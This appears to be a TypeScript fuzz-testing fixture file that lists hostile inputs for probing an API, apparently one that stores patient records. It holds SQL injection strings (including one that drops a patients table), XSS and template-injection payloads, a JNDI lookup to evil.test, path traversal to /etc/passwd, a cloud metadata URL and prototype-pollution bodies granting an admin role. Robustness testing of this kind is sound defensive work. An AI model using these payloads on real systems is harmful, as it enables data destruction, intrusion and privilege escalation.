import fc from "fast-check";

/** Texts that have broken programs, databases and the people who wrote them. */
export const hostileTexts: readonly string[] = [
  ...["", " ", "\t\n", "null", "undefined", "NaN", "-0", "0x1", "１２３", "9007199254740993", "1e400"],
  ...[
    "2024-02-30",
    "0000-00-00",
    "0000-01-01",
    "+275761-01-01",
    "275761-09-13",
    "-000001-01-01",
    "2024-1-1",
    "2025-03-30T02:30",
    "1e18",
  ],
  ...[
    "'",
    "''",
    '"',
    "`",
    "\\",
    "' or '1'='1",
    "1' or 1=1 -- ",
    "'; drop table patients; -- ",
    "') or sleep(3)=('",
    "1 union all values(1,2)",
  ],
  ...[
    "x' and randomblob(100000000) and '1'='1",
    "' || (case when 1=1 then 'a' end) || '",
    "\u00bf' or 1=1 /*",
    "%",
    "_",
    "%_%".repeat(50),
    "\\%",
  ],
  ...[
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "$\u007b7*7}",
    "$\u007bjndi:ldap://evil.test/a}",
    "%s%s%n",
  ],
  ...[
    "=1+1",
    "+1",
    "-1",
    "@sum(a1)",
    "\t=1",
    "../../etc/passwd",
    "C:\\x",
    "http://169.254.169.254/",
    "\u001b[31mred",
    "a\u0000b",
    "\u0000",
  ],
  ...[
    "\ud800",
    "a\udfffb",
    "👵🏽",
    "e\u0301",
    "\u202eabc",
    "\u200b",
    "\ufeffx",
    "İ",
    "ß",
    "\u2028",
    `e${"\u0301".repeat(10_000)}`,
    "x".repeat(100_000),
  ],
  ...[
    "(a+)+$".repeat(20),
    `${"a".repeat(50_000)}!`,
    `a@${"a.".repeat(20_000)}`,
    "0".repeat(50_000),
    "__proto__",
    "constructor",
    "toString",
  ],
];

/** Values that stand where another type belongs. */
export const hostileValues: readonly unknown[] = [
  ...[null, true, false, 0, -1, 0.1, 1e21, 1e308, Number.MAX_SAFE_INTEGER + 2, 42],
  ...[
    {},
    [],
    [[]],
    [null],
    { a: 1 },
    { id: { id: 1 } },
    { "!=": "" },
    { $gt: "" },
    { toString: "x" },
    { length: 1e9 },
    ["a", "a"],
  ],
  Array(2_000).fill("x"),
  ...hostileTexts,
];

/** Bodies that are no JSON of ours, as bytes. The last ones are JSON that a careless program would copy into every object. */
export const hostileBodies: readonly Buffer[] = [
  ...[
    "{",
    '{"name":',
    "[",
    '"',
    "nul",
    "tru",
    "{'a':1}",
    "{a:1}",
    "[1,]",
    '{"a":1,}',
    "NaN",
    "Infinity",
    "01",
    "1e",
    "\u0000",
    " ",
  ],
  ...[
    '{"a":1}{"b":2}',
    '{"a":"\n"}',
    "\ufeff{}",
    "<a/>",
    "a=1&b=2",
    "null",
    "true",
    "7",
    '"text"',
    "[]",
    "[{}]",
    "1e999",
    "-0",
  ],
  "[".repeat(100_000),
  `${"[".repeat(100_000)}${"]".repeat(100_000)}`,
  `${'{"a":'.repeat(50_000)}1${"}".repeat(50_000)}`,
  `{${Array.from({ length: 20_000 }, (_, at) => `"k${at}":1`).join()}}`,
  '{"__proto__":{"polluted":true,"role":"admin","limit":"1"}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"name":"x","__proto__":{"polluted":true}}',
  '{"address":{"__proto__":{"polluted":true}},"emergencyContact":{"constructor":{"prototype":{"polluted":true}}}}',
  '{"tags":[{"__proto__":{"polluted":true}}]}',
]
  .map((text) => Buffer.from(text))
  .concat([
    Buffer.from([0x7b, 0xff, 0xfe, 0x7d]),
    Buffer.from('{"name":"\xc0\xaf"}', "latin1"),
    Buffer.from("{}", "utf16le"),
  ]);

/** What stands in a query where something else belongs, encoded. */
export const hostileQueryTexts: readonly string[] = [
  ...[
    "-1",
    "0",
    "101",
    "1e3",
    "1.5",
    "１",
    "",
    "1;drop",
    "NaN",
    "true",
    "yes",
    "[]",
    "{}",
    "%5B%5D",
    "1000000000000000000000",
  ],
  ...hostileTexts.filter((text) => text.length < 300 && text.isWellFormed()).map(encodeURIComponent),
  ...[["é"], [""], ["\u0000"], ["a", "b"], ["\ud800", "'"], ["x".repeat(300)], [{}], [1], {}, 5, null, []].map(
    (position) => Buffer.from(JSON.stringify(position)).toString("base64url"),
  ),
];

/** Ids that name nothing. */
export const hostileIds: readonly string[] = [
  ...[
    "1",
    "0",
    "-1",
    "null",
    "undefined",
    "*",
    "%25",
    "'",
    "' or '1'='1",
    "0198c0de-0000-7000-8000-00000000000",
    "1,2",
    "id[]=1",
  ],
  ...[
    "0198C0DE-0000-7000-8000-000000000000",
    "{0198c0de-0000-7000-8000-000000000000}",
    "0198c0de00007000800000000000000",
    "é",
    "👵",
    "x".repeat(4_000),
  ],
];

type Path = readonly (string | number)[];

/** Every place in a JSON value, the value itself first. */
export function placesIn(value: unknown, path: Path = []): Path[] {
  if (typeof value !== "object" || value === null) return [path];
  const isList = Array.isArray(value);
  return [
    path,
    ...Object.entries(value).flatMap(([key, part]) => placesIn(part, [...path, isList ? Number(key) : key])),
  ];
}

/** A copy of `value` with `put` at one place. */
export function replaced(value: unknown, [key, ...rest]: Path, put: unknown): unknown {
  if (key === undefined) return put;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<string | number, unknown>;
  copy[key] = replaced(copy[key], rest, put);
  return copy;
}

/** JSON of any shape: what people send, what programs send, and what nobody would. */
export const anyJson = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileValues.filter((value) => JSON.stringify(value).length < 5_000)) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 300 }) },
  { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom("\ud800", "\udc00", "\u0000", "a", "👵", "'", "%") }) },
  { weight: 1, arbitrary: fc.double() },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
);

/** Works through a list, a few at once. */
export async function inBatches<T>(
  list: readonly T[],
  work: (item: T) => Promise<unknown>,
  atOnce = 12,
): Promise<void> {
  for (let at = 0; at < list.length; at += atOnce) await Promise.all(list.slice(at, at + atOnce).map(work));
}
